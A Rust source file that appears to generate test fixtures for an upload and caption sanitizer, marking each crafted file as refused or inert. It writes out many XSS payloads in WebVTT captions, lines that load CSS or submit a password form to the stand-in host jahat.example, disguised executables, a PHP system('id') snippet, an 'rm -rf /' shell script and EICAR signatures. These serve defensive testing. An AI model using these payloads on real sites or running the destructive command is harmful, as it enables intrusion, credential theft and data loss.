//! Captions and texts with pages in them, programs under every name, films and sound that are something else.

use super::pictures::TAILS;
use super::{Dice, File, Must, eicar, zip};

/// What stands in captions.
const CUES: [&str; 18] = [
    "<script>window.__ran()</script>",
    "<img src=x onerror=window.__ran()>",
    "<v onclick=window.__ran()>Halo",
    "<v Budi><svg onload=window.__ran()>",
    "<c.a onmouseover=window.__ran()>Halo</c>",
    "<lang en onload=window.__ran()>x</lang>",
    "<a href=javascript:window.__ran()>klik</a>",
    "<iframe srcdoc='<script>window.__ran()</script>'></iframe>",
    "<scr<b>ipt>window.__ran()</scr</b>ipt>",
    "<i><script\n>window.__ran()</script></i>",
    "<b/onclick=window.__ran()>x</b>",
    "<ruby onload=window.__ran()><rt>x",
    "<!--<img src=x onerror=window.__ran()>-->",
    "</video><script>window.__ran()</script>",
    "<style>@import url(https://jahat.example/a.css)</style>",
    "<u><base href=https://jahat.example>",
    "<form action=https://jahat.example><input name=sandi>",
    "<00:01.000><object data=x>",
];

const GOOD: &str = "00:01.000 --> 00:02.000";

/// Endings of files that are taken in.
const ENDINGS: [&str; 17] = [
    "svg", "png", "jpg", "webp", "webm", "mp4", "mp3", "ogg", "m4a", "vtt", "pdf", "odt", "ods", "odp",
    "docx", "xlsx", "pptx",
];

fn film(brand: &[u8; 4]) -> Vec<u8> {
    [b"\0\0\0\x18ftyp".as_slice(), brand, b"\0\0\0\0isommp42"].concat()
}

/// Files of this kind.
pub(super) fn all(dice: &mut Dice) -> Vec<File> {
    let mut files = Vec::new();
    for cue in CUES {
        let captions = [
            format!("WEBVTT\n\n{GOOD}\n{cue}\n"),
            format!("WEBVTT {cue}\n\n{GOOD}\nHalo\n"),
            format!("WEBVTT\n\nNOTE {cue}\n\n{GOOD}\nHalo\n"),
            format!("WEBVTT\n\n{cue}\n{GOOD}\nHalo\n"),
            format!(
                "WEBVTT\n\nSTYLE\n::cue{{background:url(https://jahat.example/{})}}{cue}\n\n{GOOD}\nHalo\n",
                dice.word()
            ),
            format!("WEBVTT\n\n{GOOD} align:start {cue}\nHalo\n"),
            format!("WEBVTT\r\n\r\n{GOOD}\r\nHalo {cue}\rdua {cue}\r\n"),
            format!("WEBVTT\n\nREGION\nid:a {cue}\n\n{GOOD}\n{}\n", cue.to_uppercase()),
        ];
        files.extend(captions.into_iter().map(|text| File::new("captions", "x.vtt", text, Must::Anew)));
        for _ in 0..2 {
            let text =
                format!("WEBVTT\n\n{GOOD}\n{}\n", cue.replace('<', "<\0").replace('w', &dice.cased("w")));
            files.push(File::new("captions", "x.vtt", text, Must::Anew));
        }
        for text in [
            cue.to_owned(),
            format!("<!doctype html>{cue}"),
            format!("webvtt\n\n{GOOD}\n{cue}"),
            format!("{cue}\nWEBVTT\n\n{GOOD}\nx"),
        ] {
            files.push(File::new("page as captions", "x.vtt", text, Must::Refused));
        }
        files.push(File::new("page as text", "x.txt", cue, Must::Inert));
        files.push(File::new("page as text", "x.txt", format!("{cue}\0"), Must::Refused));
    }
    let programs: [&[u8]; 8] = [
        b"MZ\x90\0\x03\0\0\0",
        b"\x7fELF\x02\x01\x01\0",
        b"#!/bin/sh\nrm -rf /\n",
        b"<!doctype html><script>window.__ran()</script>",
        b"<?php system('id'); ?>",
        b"\xca\xfe\xba\xbe\0\0\0\x34",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"alert(1)//",
    ];
    for program in programs {
        for ending in ENDINGS {
            files.push(File::new(
                "program under another name",
                format!("x.{ending}"),
                [program, &dice.bytes(64)].concat(),
                Must::Refused,
            ));
        }
        for ending in [
            "exe",
            "html",
            "js",
            "php",
            "jar",
            "hta",
            "svgz",
            "shtml",
            "htm",
            "xhtml",
            "mht",
            "swf",
            "lnk",
            "docm",
            "xlsm",
            "iso",
            "png ",
            "png.",
            "vtt\0.png\0",
        ] {
            files.push(File::new("ending", format!("x.{ending}"), program, Must::Refused));
        }
    }
    for ending in ENDINGS.into_iter().chain(["txt"]) {
        files.push(File::new("empty", format!("x.{ending}"), b"", Must::Refused));
        files.push(File::new("signature", format!("x.{ending}"), eicar(), Must::Refused));
        for edge in [64 * 1024 - 34, 64 * 1024 - 1, 128 * 1024 - 67] {
            files.push(File::new(
                "signature",
                format!("x.{ending}"),
                [vec![b'X'; edge], eicar()].concat(),
                Must::Refused,
            ));
        }
    }
    let media: [(&str, Vec<u8>); 5] = [
        ("mp4", film(b"isom")),
        ("m4a", film(b"M4A ")),
        ("mp3", b"ID3\x04\0\0\0\0\0\0".to_vec()),
        ("ogg", b"OggS\0\x02\0\0\0\0\0\0\0\0".to_vec()),
        ("webm", [b"\x1a\x45\xdf\xa3\x01\0\0\0\0\0\0\x1f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x84webm".as_slice(), &[0; 260]].concat()),
    ];
    for (ending, head) in media {
        for tail in TAILS {
            files.push(File::new(
                "tail",
                format!("x.{ending}"),
                [&head, tail.as_bytes()].concat(),
                Must::Inert,
            ));
            files.push(File::new(
                "two in one",
                format!("x.{ending}"),
                [&head, &zip(&[("META-INF/x.class", tail)])[..]].concat(),
                Must::Refused,
            ));
            files.push(File::new(
                "head",
                format!("x.{ending}"),
                [tail.as_bytes(), &head].concat(),
                Must::Refused,
            ));
        }
        for _ in 0..6 {
            let boxes = [&head, &[0xff; 3][..], &dice.bytes(40), b"moov\xff\xff\xff\xffmvhd"].concat();
            files.push(File::new("boxes that lie", format!("x.{ending}"), boxes, Must::Inert));
        }
        for other in ["png", "jpg", "webp", "svg", "pdf", "docx", "odt", "vtt"] {
            files.push(File::new("wrong ending", format!("x.{other}"), head.clone(), Must::Refused));
        }
    }
    for over in [
        ("x.vtt", 1 << 20),
        ("x.svg", 2 << 20),
        ("x.png", 20 << 20),
        ("x.pdf", 20 << 20),
        ("x.docx", 20 << 20),
    ] {
        files.push(File::new("too large", over.0, vec![b'a'; over.1 + 1], Must::Refused));
    }
    files
}
